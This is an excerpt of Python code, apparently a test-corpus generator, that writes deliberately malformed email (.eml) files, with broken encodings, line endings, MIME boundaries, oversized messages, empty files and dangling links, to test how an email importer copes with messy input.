        [
            f"=?utf-8?B?{whole[: rng.randint(3, len(whole) - 1)]}",  # cut mid-sequence
            f"=?utf-8?B?{whole[:10]}?= =?utf-8?B?{whole[10:]}?=",  # split inside a character
            "=?koi8-r?Q?=F3=D2=CF=DE=CE=CF?= =?x-unknown?Q?abc?=",
            "=?utf-8?Q?Payment_=E2=82?= received",
            "=?utf-8?X?abc?=",
            "=?=?utf-8?B??=?=",
            "=?iso-2022-jp?B?GyRCJUYlOSVIGyhC?=",
            "=?utf-7?Q?+AGUAdQByAG8-?=",
        ]
    )
    head = re.sub(
        rb"(?mi)^Subject:[^\n]*\n", lambda _: b"Subject: " + value.encode() + b"\n", head, count=1
    )
    name = rng.choice(
        [b"=?utf-8?B?UGF5UGFs", b"=?gb2312?B?1tDOxA==?=", b"=?utf-8?Q?Bank=", b"=?ascii?Q?=00=00?="]
    )
    head = re.sub(rb"(?mi)^From: *", lambda _: b"From: " + name + b" ", head, count=1)
    return head + b"\n" + body


def _tab_continuations(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    head = re.sub(
        rb"(?mi)^(Subject|To|Received):([^\n]{10,})\n",
        lambda m: m.group(1) + b":" + m.group(2)[:8] + b"\n\t" + m.group(2)[8:] + b"\n\t\n",
        head,
    )
    return b"X-Folded:\n\tfirst\n\t second\n" + head + b"\n" + body


def _missing_blank_line(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    return head + body


def _line_endings(raw: bytes, rng: random.Random) -> bytes:
    style = rng.choice(["crlf", "cr", "mixed"])
    if style == "crlf":
        return raw.replace(b"\n", b"\r\n")
    if style == "cr":
        return raw.replace(b"\n", b"\r")
    lines = raw.split(b"\n")
    return b"".join(line + rng.choice([b"\n", b"\r\n", b"\r", b"\n\r"]) for line in lines)


def _nul_bytes(raw: bytes, rng: random.Random) -> bytes:
    out = bytearray(raw)
    for _ in range(rng.randint(1, 20)):
        out.insert(rng.randint(0, len(out)), 0)
    return bytes(out)


def _truncate(raw: bytes, rng: random.Random) -> bytes:
    return raw[: rng.randint(1, max(len(raw) - 1, 1))]


def _drop_boundary_param(raw: bytes, rng: random.Random) -> bytes:
    return re.sub(rb';\s*boundary="?[^";\n]*"?', b"", raw, count=1, flags=re.IGNORECASE)


def _unclosed_boundaries(raw: bytes, rng: random.Random) -> bytes:
    return re.sub(rb"\n--[^\n]{1,200}--[ \t]*\n", b"\n", raw)


def _nest_without_boundaries(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    head = re.sub(rb"(?mi)^Content-Type:[^\n]*\n(?:[ \t][^\n]*\n)*", b"", head)
    depth = rng.randint(2, 30)
    outer = b"".join(
        f'Content-Type: multipart/mixed; boundary="n{i}"\n\n--n{i}\n'.encode() for i in range(depth)
    )
    return head + b"Content-Type: multipart/mixed\n\n" + outer + body


def _wrap_as_attachment(raw: bytes, rng: random.Random) -> bytes:
    b = _boundary(rng)
    return (
        (
            f"From: abuse-report@{_domain(rng)}\nTo: me@example.com\nSubject: Fwd: suspicious\n"
            f'Date: {_date(rng)}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="{b}"\n\n'
            f"--{b}\nContent-Type: text/plain\n\nForwarded as attachment.\n--{b}\n"
            f"Content-Type: message/rfc822\n\n"
        ).encode()
        + raw
        + (f"\n--{b}--\n".encode() if rng.random() < 0.5 else b"")
    )


def _huge_header(raw: bytes, rng: random.Random) -> bytes:
    addresses = ", ".join(
        f"{_word(rng, 2)}{i}@{_domain(rng)}" for i in range(rng.randint(500, 3000))
    )
    return f"Cc: {addresses}\n".encode() + raw


def _garbage_header_lines(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    junk = rng.choice(
        [
            b"this is not a header\n",
            b": no name\n",
            b"X-Bad Header: space in name\n",
            b"\xff\xfe\xfd: \xfa\n",
            b"From \n",
        ]
    )
    lines = head.split(b"\n")
    at = rng.randint(0, max(len(lines) - 1, 0))
    lines.insert(at, junk.rstrip(b"\n"))
    return b"\n".join(lines) + b"\n" + body


#: (name, chance, function): each is applied to a message independently.
MANGLES: list[tuple[str, float, Callable[[bytes, random.Random], bytes]]] = [
    ("duplicate_headers", 0.08, _dup_headers),
    ("odd_date", 0.1, _odd_date),
    ("no_date", 0.04, _no_date),
    ("from_name_only", 0.06, _from_name_only),
    ("return_path_null", 0.04, _bounce_return_path),
    ("raw_8bit_headers", 0.08, _raw_8bit_headers),
    ("broken_encoded_words", 0.08, _broken_encoded_words),
    ("tab_continuations", 0.06, _tab_continuations),
    ("garbage_header_line", 0.05, _garbage_header_lines),
    ("no_boundary_param", 0.04, _drop_boundary_param),
    ("unclosed_boundaries", 0.05, _unclosed_boundaries),
    ("nested_multipart_no_boundaries", 0.02, _nest_without_boundaries),
    ("wrapped_rfc822", 0.03, _wrap_as_attachment),
    ("huge_recipient_header", 0.005, _huge_header),
    ("missing_blank_line", 0.03, _missing_blank_line),
    ("nul_bytes", 0.04, _nul_bytes),
    # Last: these change the bytes the others look for.
    ("line_endings", 0.12, _line_endings),
    ("truncated", 0.05, _truncate),
]


def _mangle(raw: bytes, rng: random.Random, defects: list[str]) -> bytes:
    for name, chance, mangle in MANGLES:
        if rng.random() < chance:
            raw = mangle(raw, rng)
            defects.append(name)
    return raw


# ------------------------------------------------------------------ the file tree

_FOLDERS = [
    "Junk",
    "Spam/2019",
    "Spam/2024/03",
    "phishing/reported/batch-01",
    "phishing/reported/batch-02",
    "quarantine",
    "Входящие/спам",
    "deep/a/b/c/d/e/f",
    "with space/and.dots",
]


def _file_name(rng: random.Random, index: int, defects: list[str]) -> str:
    folder = rng.choice(_FOLDERS)
    style = rng.random()
    if style < 0.05:
        name = f"{index:05d} Счёт на оплату.eml"
    elif style < 0.1:
        name = f"{index:05d}.EML"
    elif style < 0.13:
        name = f".hidden-{index:05d}.eml"
    elif style < 0.16:
        name = f"{index:05d} (copy) [1] ~$ #&'.eml"
    else:
        name = f"{index:05d}-{rng.getrandbits(32):08x}.eml"
    return f"{folder}/{name}"


def _add_copies(corpus: MessyCorpus, written: list[str], count: int, rng: random.Random) -> None:
    """Byte copies and CRLF copies of earlier files: duplicates an import skips."""
    for n, relative in enumerate(rng.sample(written, min(count, len(written)))):
        raw = (corpus.root / relative).read_bytes()
        if not raw.strip():
            continue
        crlf = n % 2 == 1 and b"\r" not in raw
        data = raw.replace(b"\n", b"\r\n") if crlf else raw
        corpus.add(
            f"copies/{n:04d}{'-crlf' if crlf else ''}.eml", data, ["copy_crlf" if crlf else "copy"]
        )
        corpus.copies += 1


_SPECIAL_COUNT = 12


def _add_specials(corpus: MessyCorpus, rng: random.Random, huge_bytes: int) -> None:
    """Entries that are no ordinary message (``_SPECIAL_COUNT`` of them, plus the huge one)."""
    for n in range(4):
        corpus.add(f"odd/empty-{n}.eml", b"", ["zero_bytes"])
        corpus.not_email += 1
    for n in range(2):
        jpeg = (
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01"
            + rng.randbytes(rng.randint(2_000, 50_000))
            + b"\xff\xd9"
        )
        corpus.add(f"odd/photo-{n}.eml", jpeg, ["jpeg_renamed"])
        corpus.not_email += 1
    corpus.add("odd/whitespace.eml", b"\n\r\n \t\n", ["whitespace_only"])
    corpus.not_email += 1
    corpus.add(
        "odd/headers-only.eml", b"From: x@y.com\nSubject: no body and no newline", ["headers_only"]
    )
    corpus.add(
        "odd/body-only.eml", b"Hello, this file has no headers at all.\nJust text.\n", ["body_only"]
    )
    corpus.not_email += 1
    corpus.add("odd/one-cr.eml", b"From: a@b.com\rSubject: CR only\r\rbody\r", ["line_endings"])
    deep = b"".join(
        f'Content-Type: multipart/mixed; boundary="d{i}"\n\n--d{i}\n'.encode() for i in range(5000)
    )
    corpus.add(
        "odd/deep-nesting.eml",
        b"From: deep@nest.com\nSubject: deep\n" + deep + b"Content-Type: text/plain\n\nbottom\n",
        ["deep_nesting"],
    )
    # A directory whose name says message: the import must walk into it, not read it.
    (corpus.root / "odd" / "x.eml").mkdir(parents=True, exist_ok=True)
    corpus.add(
        "odd/x.eml/inside.eml",
        b"From: inside@dir.com\nSubject: inside a directory named x.eml\n\nhi\n",
        ["in_dir_named_eml"],
    )
    # A link to nowhere: listed, unreadable.
    link = corpus.root / "odd" / "dangling.eml"
    if not link.is_symlink():
        link.symlink_to(corpus.root / "odd" / "does-not-exist")
    corpus.files.append(link)
    corpus.manifest["odd/dangling.eml"] = ["dangling_link"]
    corpus.defects["dangling_link"] += 1
    corpus.unreadable += 1
    # Not .eml: must be ignored.
    (corpus.root / "odd" / "README.txt").write_bytes(b"not mail\n")
    (corpus.root / "odd" / "Thumbs.db").write_bytes(b"\x00" * 64)
    if huge_bytes:
        corpus.add("odd/huge.eml", _huge_message(rng, huge_bytes), ["huge_message"])


def _huge_message(rng: random.Random, size: int) -> bytes:
    """One message of about ``size`` bytes: a short text and a huge base64 image."""
    b = "huge-boundary"
    head = (
        "From: Photo Share <share@photos.example>\nTo: me@example.com\nSubject: 2,000 holiday photos\n"
        f'Date: {_date(rng)}\nMessage-ID: <huge@photos.example>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="{b}"\n\n'
        f"--{b}\nContent-Type: text/plain\n\nSee attached.\n--{b}\n"
        'Content-Type: image/jpeg; name="all.jpg"\nContent-Transfer-Encoding: base64\n\n'
    ).encode()
    line = base64.encodebytes(rng.randbytes(57 * 1000))  # 1000 lines of 76 characters
    count = max(size // len(line), 1)
    return head + line * count + f"--{b}--\n".encode()
